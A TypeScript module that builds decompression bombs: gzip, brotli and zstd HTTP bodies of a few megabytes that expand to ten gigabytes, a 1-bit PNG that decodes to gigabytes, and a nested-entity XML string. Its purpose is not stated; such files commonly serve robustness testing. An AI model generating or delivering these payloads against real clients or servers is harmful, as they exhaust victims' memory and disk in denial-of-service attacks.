import { once } from 'node:events';
import { constants, createBrotliCompress, crc32, deflateRawSync, deflateSync, zstdCompressSync } from 'node:zlib';

/** A compressed body of a few megabytes that expands to ten gigabytes: a head, and a part that can be repeated. */
export interface Bomb {
  readonly encoding: string;
  readonly head: Buffer;
  readonly repeated: Buffer;
  readonly times: number;
}

const gibibyte = 1024 ** 3;
const blank = Buffer.alloc(16 * 1024 ** 2, ' ');
const times = (10 * gibibyte) / blank.length;

export function gzipBomb(): Bomb {
  const head = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);
  // A full flush ends at a byte boundary and needs no earlier data.
  const repeated = deflateRawSync(blank, { finishFlush: constants.Z_FULL_FLUSH });
  return { encoding: 'gzip', head, repeated, times };
}

/** The second block of a stream can be repeated. */
export async function brotliBomb(): Promise<Bomb> {
  const stream = createBrotliCompress({ params: { [constants.BROTLI_PARAM_QUALITY]: 1 } });
  const block = async (): Promise<Buffer> => {
    stream.write(blank);
    stream.flush();
    await once(stream, 'readable');
    return stream.read() as Buffer;
  };
  const bomb = { encoding: 'br', head: await block(), repeated: await block(), times };
  stream.destroy();
  return bomb;
}

/** A stream may consist of several frames. */
export function zstdBomb(): Bomb {
  return { encoding: 'zstd', head: Buffer.alloc(0), repeated: zstdCompressSync(blank), times };
}

/** A black square of 1 bit per pixel: 110 KB that decode to 3.6 GB. */
export function pngBomb(side: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const framed = Buffer.alloc(8 + body.length);
    framed.writeUInt32BE(data.length, 0);
    body.copy(framed, 4);
    framed.writeUInt32BE(crc32(body), 4 + body.length);
    return framed;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 1;
  const rows = deflateSync(Buffer.alloc((1 + Math.ceil(side / 8)) * side));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}

/** Ten entities, each ten times the previous one: 10 GB of text. */
export const entityBomb = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e0 "${'x'.repeat(10)}">${Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`,
).join('')}]><a>&e9;</a>`;
